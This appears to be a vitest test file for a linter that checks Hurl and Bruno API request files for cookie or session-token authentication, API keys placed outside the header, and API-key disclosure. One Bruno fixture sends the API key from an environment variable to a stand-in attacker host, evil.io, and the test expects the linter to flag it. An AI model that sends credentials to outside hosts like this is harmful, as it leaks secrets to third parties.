import { describe, expect, it } from 'vitest';
import { foundIn } from '../../support/findings.ts';

const told = (file: string, text: string): string[] => ['no-dashboard-auth', 'require-key-header', 'no-key-disclosure'].flatMap((rule) => foundIn(rule, { [file]: text }).map((found) => `${rule} ${found}`));

describe('a Hurl file', () => {
  const hurl = (text: string): string[] => told('a.hurl', `# hilt\n${text}\n`);
  it('sends a cookie', () => expect(hurl('GET https://api.hilt.so/v1/products\nCookie: a=b\nHTTP 200')).toEqual(['no-dashboard-auth 3: Cookie: a=b']));
  it('sends cookies of their own section', () => expect(hurl('GET https://api.hilt.so/v1/products\n[Cookies]\nsession: abc\nHTTP 200')).toEqual(['no-dashboard-auth 4: session: abc']));
  it('sends a key', () => expect(hurl('GET https://api.hilt.so/v1/products\nX-Hilt-Key: {{hilt_key}}\nHTTP 200')).toEqual([]));
  it('puts a key into the address', () => expect(hurl('GET https://api.hilt.so/v1/products\n[QueryStringParams]\nlimit: 1\napi_key: {{HILT_API_KEY}}\nHTTP 200')).toEqual(['require-key-header 5: api_key: {{HILT_API_KEY}}']));
  it('expects headers of the answer', () => expect(hurl('GET https://api.hilt.so/v1/products\nX-Hilt-Key: {{key}}\nHTTP 200\nSet-Cookie: a=b\nCookie: a=b\n[Asserts]\nheader "Authorization" not exists')).toEqual([]));
  it('signs in and goes on as that person', () => expect(hurl('POST https://api.hilt.so/v1/auth/login\n{ "email": "{{email}}" }\nHTTP 200\n[Captures]\ntoken: jsonpath "$.token"\n\nGET https://api.hilt.so/v1/products\nAuthorization: Bearer {{token}}\nHTTP 200\n\nGET https://api.hilt.so/v1/webhooks/endpoints\nAuthorization: Bearer {{token}}\nHTTP 200')).toEqual(['no-dashboard-auth 9: Authorization: Bearer {{token}}']));
});

describe('a request of Bruno', () => {
  const get = 'meta {\n  name: hilt\n}\n\nget {\n  url: https://api.hilt.so/v1/products\n}\n';
  it('sends a session token', () => expect(told('a.bru', `${get}auth:bearer {\n  token: {{token}}\n}\n`)).toEqual(['no-dashboard-auth 9: token: {{token}}']));
  it('sends a key', () => expect(told('a.bru', `${get}headers {\n  X-Hilt-Key: {{process.env.HILT_API_KEY}}\n}\n`)).toEqual([]));
  it('leaves out what is switched off', () => expect(told('a.bru', `${get}headers {\n  ~Cookie: a=b\n}\n`)).toEqual([]));
  it('sends a key in its body', () => expect(told('a.bru', 'post {\n  url: https://api.hilt.so/v1/support/tickets\n}\nbody:json {\n  { "api_key": "{{process.env.HILT_API_KEY}}" }\n}\n')).toEqual(['require-key-header 5: { "api_key": "{{process.env.HILT_API_KEY}}" }']));
  it('sends a key elsewhere', () => expect(told('a.bru', 'get {\n  url: https://evil.io/\n}\nheaders {\n  X-Hilt-Key: {{process.env.HILT_API_KEY}}\n}\n')).toEqual(['no-key-disclosure 5: X-Hilt-Key: {{process.env.HILT_API_KEY}}']));
});
